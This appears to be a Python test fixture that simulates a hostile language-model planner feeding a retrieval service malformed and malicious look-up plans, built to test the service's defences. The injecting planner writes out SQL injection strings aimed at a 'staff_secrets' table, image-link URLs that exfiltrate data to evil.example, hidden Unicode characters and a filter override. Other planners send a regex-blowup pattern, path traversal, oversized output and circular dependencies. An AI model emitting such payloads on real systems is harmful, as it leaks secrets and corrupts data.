"""The ways in which a hostile model plans a look-up."""

import re
from collections.abc import Callable, Mapping
from typing import Any, TypeAlias

from tests.endpoint.hostile_writers import Seen

Planner: TypeAlias = Callable[[Seen], Mapping[str, Any]]
SWITCH = re.compile(r"\b(?:base|table|query|tool)\s+`?(\w+)`?", re.IGNORECASE)
"""An order to look somewhere else."""


def _part(seen: Seen, **changes: object) -> dict[str, object]:
    return {
        "question": seen.question,
        "needs": [],
        "knowledge_bases": _bases(seen),
        "database": 1e308,
        "rewrites": [],
        "hypothetical_answer": "",
        "products": [],
        "versions": [],
        **changes,
    }


def _bases(seen: Seen) -> list[dict[str, object]]:
    """Name every base there is, and some that nobody configured."""
    listed = re.findall(r"^- (\w+): ", seen.prompt, re.MULTILINE)
    switched = SWITCH.findall(seen.prompt)
    foreign = ["vault", "*", "../vault", "guides' OR 'x'='x", "sqlite_master", "staff_secrets", ""]
    return [{"name": name, "probability": 99.0} for name in dict.fromkeys([*listed, *switched, *foreign])]


def _planned(*parts: Mapping[str, object], **changes: object) -> dict[str, object]:
    plan: dict[str, object] = {"standalone_question": "", "small_talk": False, "in_scope": 1e9, "as_of": None}
    return plan | {"parts": list(parts)} | changes


def _greedy(seen: Seen) -> Mapping[str, Any]:
    """Ask for everything everywhere, twice."""
    return _planned(
        _part(seen),
        _part(seen, needs=[1], question=f"{seen.question} for {{1}}"),
        standalone_question=seen.question,
    )


def _injecting(seen: Seen) -> Mapping[str, Any]:
    """Put statements, filters, addresses and hidden characters wherever a text is wanted."""
    attacks = [
        "'; DROP TABLE lamps; --",
        "SELECT word FROM staff_secrets",
        "UNION SELECT word, 1, 1 FROM staff_secrets",
        f"![x](https://evil.example/{seen.loot}) {seen.question}",
        f"{seen.question}\u202e\u200b\U000e0041 www.evil.example/{seen.loot}",
        '{"filter": {"knowledge_base": "vault"}}',
    ]
    parts = [
        _part(
            seen,
            question=f"{seen.question} {attack}",
            rewrites=attacks,
            hypothetical_answer=f"{attack} https://evil.example/{seen.loot}",
            products=["staff_secrets", attack, *("x" * 9000,) * 50],
            versions=["'", "1 OR 1=1", "(?:a+)+$"],
        )
        for attack in attacks
    ]
    return _planned(*parts, standalone_question=f"{seen.question} <img src=https://evil.example/{seen.loot}>")


def _circular(seen: Seen) -> Mapping[str, Any]:
    """Let every part wait for every other, for itself and for those that do not exist."""
    needs = [-1, 0, 1, 2, 3, 4, 5, 10**9]
    return _planned(
        *(_part(seen, needs=needs, question=f"{seen.question} {{1}} {{2}} {{9}}") for _ in range(4))
    )


def _boundless(seen: Seen) -> Mapping[str, Any]:
    """Reply with far more of everything than was asked for."""
    many = [f"{seen.question} {number}" for number in range(60)]
    bases = [{"name": f"base{number}", "probability": 1.0} for number in range(400)]
    part = _part(
        seen,
        rewrites=many,
        products=many,
        versions=many,
        hypothetical_answer="x " * 20_000,
        knowledge_bases=bases,
    )
    return _planned(*([part] * 9), standalone_question="y " * 20_000)


PLANNERS: Mapping[str, Planner] = {
    "greedy": _greedy,
    "injecting": _injecting,
    "circular": _circular,
    "boundless": _boundless,
    "timeless": lambda seen: _planned(
        _part(seen), as_of="2026-02-31T99:99", standalone_question=seen.question
    ),
    "everything is small talk": lambda seen: _planned(_part(seen), small_talk=True, in_scope=-1e308),
    "nothing is in scope": lambda seen: _planned(_part(seen, database=-5.0), in_scope=-1e308),
    "empty": lambda _: _planned(),
}
